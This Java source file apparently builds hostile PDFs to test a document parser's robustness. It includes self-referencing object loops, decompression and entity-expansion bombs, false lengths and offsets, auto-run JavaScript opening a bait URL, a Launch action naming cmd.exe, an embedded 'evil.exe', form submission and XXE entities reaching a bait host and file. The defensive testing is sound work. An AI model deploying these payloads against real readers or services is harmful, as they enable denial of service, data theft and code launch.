package app.envoi.attack;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import app.envoi.press.pdf.RawPdf;
import java.util.ArrayList;
import java.util.List;

/** PDFs that loop, unpack without end, lie about their lengths, carry scripts and files, or reach out. */
final class PdfAttacks {
    private static final String LINE = "BT /F1 12 Tf 72 700 Td (a line) Tj ET";
    private static final String PAGE =
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents ";
    private static final int CATALOG = 1;
    private static final int PAGES = 2;
    private static final int FONT = 3;
    private static final int FIRST_PAGE = 6;
    private static final int CONTENT = 7;

    private final Attack.Bait bait;
    private final List<Attack> all = new ArrayList<>();

    private PdfAttacks(Attack.Bait bait) {
        this.bait = bait;
    }

    static List<Attack> all(Attack.Bait bait) {
        PdfAttacks attacks = new PdfAttacks(bait);
        attacks.loops();
        attacks.bombs();
        attacks.lengths();
        attacks.passengers();
        return attacks.all;
    }

    private void add(String name, RawPdf pdf, String answer) {
        all.add(Attack.manuscript(name, pdf::bytes, answer));
    }

    private static RawPdf line() {
        return RawPdf.pages(LINE);
    }

    private static String swapped(RawPdf pdf, String what, String with) {
        return new String(pdf.bytes(), ISO_8859_1).replace(what, with);
    }

    private void text(String name, String pdf, String answer) {
        all.add(Attack.manuscript(name, () -> pdf.getBytes(ISO_8859_1), answer));
    }

    private void loops() {
        add(
                "a tree of pages that bites its tail",
                line().replace(PAGES, "<< /Type /Pages /Kids [2 0 R 6 0 R 2 0 R] /Count 1000000000 /Parent 2 0 R >>"),
                "a line");
        add(
                "a page that is its own parent",
                line().replace(FIRST_PAGE, "<< /Type /Page /Parent 6 0 R /Contents 7 0 R >>"),
                "a line");
        add(
                "a chapter list that bites its tail",
                line().object("<< /First 8 0 R /Last 8 0 R /Next 8 0 R /Parent 8 0 R /Title (a) /Count 99999 >>")
                        .replace(CATALOG, "<< /Type /Catalog /Pages 2 0 R /Outlines 8 0 R >>"),
                "a line");
        add(
                "names that bite their tail",
                line().object("<< /Kids [8 0 R] /Names [(a) 8 0 R] /Limits [(a) (z)] >>")
                        .replace(
                                CATALOG,
                                "<< /Type /Catalog /Pages 2 0 R /Names << /Dests 8 0 R /EmbeddedFiles 8 0 R /JavaScript 8 0 R >> /PageLabels 8 0 R >>"),
                "a line");
        add(
                "a structure that bites its tail",
                line().object(
                                "<< /Type /StructTreeRoot /S /A /RoleMap << /A /B /B /A >> /K [8 0 R 8 0 R] /ParentTree 8 0 R >>")
                        .replace(CATALOG, "<< /Type /Catalog /Pages 2 0 R /StructTreeRoot 8 0 R >>"),
                "a line");
        add(
                "a form that draws itself",
                line().replace(FIRST_PAGE, PAGE + "9 0 R /Resources << /XObject << /X 8 0 R >> >> >>").stream(
                        "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 8 0 R >> >>",
                        bytes("/X Do /X Do"))
                        .stream("", bytes("/X Do")),
                "nested forms");
        add(
                "a font of pictures that draws itself",
                line().replace(
                                FONT,
                                "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 7 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1] /Resources << /Font << /F1 3 0 R >> >> >>"),
                "read");
        add(
                "a font below itself",
                line().replace(
                                FONT,
                                "<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [3 0 R] /FontDescriptor 3 0 R /ToUnicode 3 0 R >>"),
                "read");
        add(
                "a map of letters that uses itself",
                line()
                        .replace(
                                FONT,
                                "<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding 8 0 R /ToUnicode 8 0 R /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 >>] >>")
                        .stream(
                                "/Type /CMap /CMapName /X /UseCMap 8 0 R",
                                bytes(
                                        "/X usecmap 1 begincodespacerange <00> <FFFFFFFF> endcodespacerange 1 begincidrange <00000000> <FFFFFFFF> 0 endcidrange")),
                "read");
        text(
                "a list of places that comes before itself",
                swapped(
                        line(),
                        "/Root 1 0 R",
                        "/Root 1 0 R /Prev " + new String(line().bytes(), ISO_8859_1).indexOf("xref\n")),
                "a line");
        text(
                "a list of places whose stream is itself",
                swapped(
                        line(),
                        "/Root 1 0 R",
                        "/Root 1 0 R /XRefStm " + new String(line().bytes(), ISO_8859_1).indexOf("xref\n")),
                "a line");
        text(
                "a length that stands in the stream it measures",
                swapped(line(), "/Length " + LINE.length(), "/Length 7 0 R"),
                "read");
        add(
                "a stream of objects that holds itself",
                line().replaceStream(
                                CONTENT,
                                "/Type /ObjStm /N 3 /First 20 /Extends 7 0 R",
                                bytes("7 0 6 2 1 4          << >>")),
                "nothing to read");
    }

    private static byte[] bytes(String text) {
        return text.getBytes(ISO_8859_1);
    }

    private void bombs() {
        all.add(Attack.manuscript(
                "a page that unpacks to 100 MB",
                () -> line().replaceStream(CONTENT, "/Filter /FlateDecode", RawPdf.bomb(100L << 20))
                        .bytes(),
                "bytes unpacked"));
        all.add(Attack.manuscript(
                "a bomb in a bomb",
                () -> line().replaceStream(
                                CONTENT, "/Filter [/FlateDecode /FlateDecode]", RawPdf.packed(RawPdf.bomb(400L << 20)))
                        .bytes(),
                "bytes unpacked"));
        add(
                "a hundred filters",
                line().replaceStream(CONTENT, "/Filter [" + "/FlateDecode ".repeat(100) + "]", bytes("x")),
                "read");
        all.add(Attack.manuscript(
                "a bomb of runs",
                () -> line().replaceStream(CONTENT, "/Filter /RunLengthDecode", bytes("\u0081 ".repeat(5_000_000)))
                        .bytes(),
                "bytes unpacked"));
        all.add(Attack.manuscript(
                "a bomb of the older packing",
                () -> line().replaceStream(CONTENT, "/Filter [/FlateDecode /LZWDecode]", RawPdf.bomb(64L << 20))
                        .bytes(),
                "bytes unpacked"));
        add(
                "rows of 2,147,483,647 columns",
                line().replaceStream(
                                CONTENT,
                                "/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 /BitsPerComponent 16 >>",
                                RawPdf.packed(bytes(LINE))),
                "read");
        add(
                "rows of 500,000,000 columns",
                line().replaceStream(
                                CONTENT,
                                "/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 500000000 >>",
                                RawPdf.packed(bytes(LINE))),
                "content of page 1 is damaged");
        add(
                "a picture that says it is 100,000 wide",
                line().replace(FIRST_PAGE, PAGE + "9 0 R /Resources << /XObject << /X 8 0 R >> >> >>").stream(
                        "/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode",
                        RawPdf.packed(new byte[1000]))
                        .stream("", bytes("/X Do")),
                "read");
        all.add(Attack.manuscript(
                "a million characters on a page",
                () -> RawPdf.pages("BT /F1 1 Tf (" + "x".repeat(1_000_000) + ") Tj ET")
                        .bytes(),
                "characters"));
        all.add(Attack.manuscript(
                "a page of 300,000 brackets",
                () -> RawPdf.pages("[".repeat(300_000) + LINE).bytes(),
                "read"));
        all.add(Attack.manuscript(
                "a catalog 100,000 deep",
                () -> line().replace(CATALOG, "<< /Type /Catalog /Pages 2 0 R /A " + "<< /A ".repeat(100_000))
                        .bytes(),
                "damaged or cut short"));
    }

    private void lengths() {
        for (String length : List.of("0", "-1", "99999", "2147483648", "99999999999999999999")) {
            text(
                    "a content that says it has " + length + " bytes",
                    swapped(line(), "/Length " + LINE.length(), "/Length " + length),
                    "a line");
        }
        text("a list of 2,147,483,647 places", swapped(line(), "xref\n0 8", "xref\n0 2147483647"), "a line");
        text("a list that begins at 2,147,483,600", swapped(line(), "xref\n0 8", "xref\n2147483600 8"), "a line");
        text(
                "a list beyond the end",
                new String(line().bytes(), ISO_8859_1).replaceAll("startxref\n\\d+", "startxref\n99999999999"),
                "a line");
        text(
                "an object of number 9,999,999,999",
                swapped(line(), "/Root 1 0 R", "/Root 1 0 R /Info 9999999999 0 R"),
                "a line");
        text(
                "a list in a stream of the widest fields",
                swapped(
                        line().stream(
                                "/Type /XRef /Size 2147483647 /W [2147483647 2147483647 2147483647] /Index [0 2147483647] /Root 1 0 R",
                                bytes("x")),
                        "startxref\n",
                        "startxref\n1"),
                "read");
        text(
                "a lock of no kind",
                swapped(
                        line(),
                        "/Root 1 0 R",
                        "/Root 1 0 R /Encrypt << /Filter /Standard /V 5 /R 6 /Length 2147483647 /O (x) /U (x) /P -1 >>"),
                "locked with a password");
        add(
                "a sheet of 1e30 points",
                line().replace(FIRST_PAGE, PAGE.replace("612 792", "1e30 1e30") + "7 0 R /UserUnit 1e9 >>"),
                "read");
    }

    /** What a PDF may carry or ask for; none of it is opened, run or sent. */
    private void passengers() {
        add(
                "a script that runs by itself",
                line().replace(
                                CATALOG,
                                "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\(\""
                                        + bait.url() + "\"\\)) >> /AA << /WC << /S /JavaScript /JS (x) >> >> >>"),
                "scripts");
        add(
                "a program to be started",
                line().replace(
                                CATALOG,
                                "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (" + bait.file()
                                        + ") /Win << /F (cmd.exe) >> >> >>"),
                "a line");
        add(
                "an address to be opened",
                line().replace(
                                CATALOG,
                                "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (" + bait.url()
                                        + ") >> >>"),
                "a line");
        add(
                "a form to be sent",
                line().replace(
                                CATALOG,
                                "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA (<x/>) >> /OpenAction << /S /SubmitForm /F << /FS /URL /F ("
                                        + bait.url() + ") >> >> >>"),
                "form");
        add(
                "files inside",
                line().replace(
                                CATALOG,
                                "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(b) << /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>] >> >> >>"),
                "other files");
        add(
                "a content that lies in another file",
                line().replaceStream(CONTENT, "/F (" + bait.file() + ") /FFilter /FlateDecode", bytes("")),
                "read");
        add(
                "a content of another host",
                line().replaceStream(CONTENT, "/F << /FS /URL /F (" + bait.url() + ") >>", bytes("")),
                "read");
        add(
                "a page of another file",
                line().replace(FIRST_PAGE, PAGE + "9 0 R /Resources << /XObject << /X 8 0 R >> >> >>").stream(
                        "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (" + bait.file() + ") /Page 0 >>",
                        bytes(""))
                        .stream("", bytes("/X Do")),
                "read");
        add(
                "properties with a document type",
                line().stream(
                                "/Type /Metadata /Subtype /XML",
                                bytes(
                                        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"" + bait.url()
                                                + "\">%p;<!ENTITY e SYSTEM \"" + bait.file()
                                                + "\">]><x xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:creator>&e;</dc:creator></x>"))
                        .replace(CATALOG, "<< /Type /Catalog /Pages 2 0 R /Metadata 8 0 R >>"),
                "a line");
        add(
                "properties that laugh a billion times",
                line().stream(
                                "/Type /Metadata /Subtype /XML",
                                bytes(
                                        "<!DOCTYPE x [<!ENTITY a \"" + "lol".repeat(1000) + "\"><!ENTITY b \""
                                                + "&a;".repeat(1000) + "\"><!ENTITY e \"" + "&b;".repeat(1000)
                                                + "\">]><x xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:creator>&e;</dc:creator></x>"))
                        .replace(CATALOG, "<< /Type /Catalog /Pages 2 0 R /Metadata 8 0 R >>"),
                "a line");
    }
}
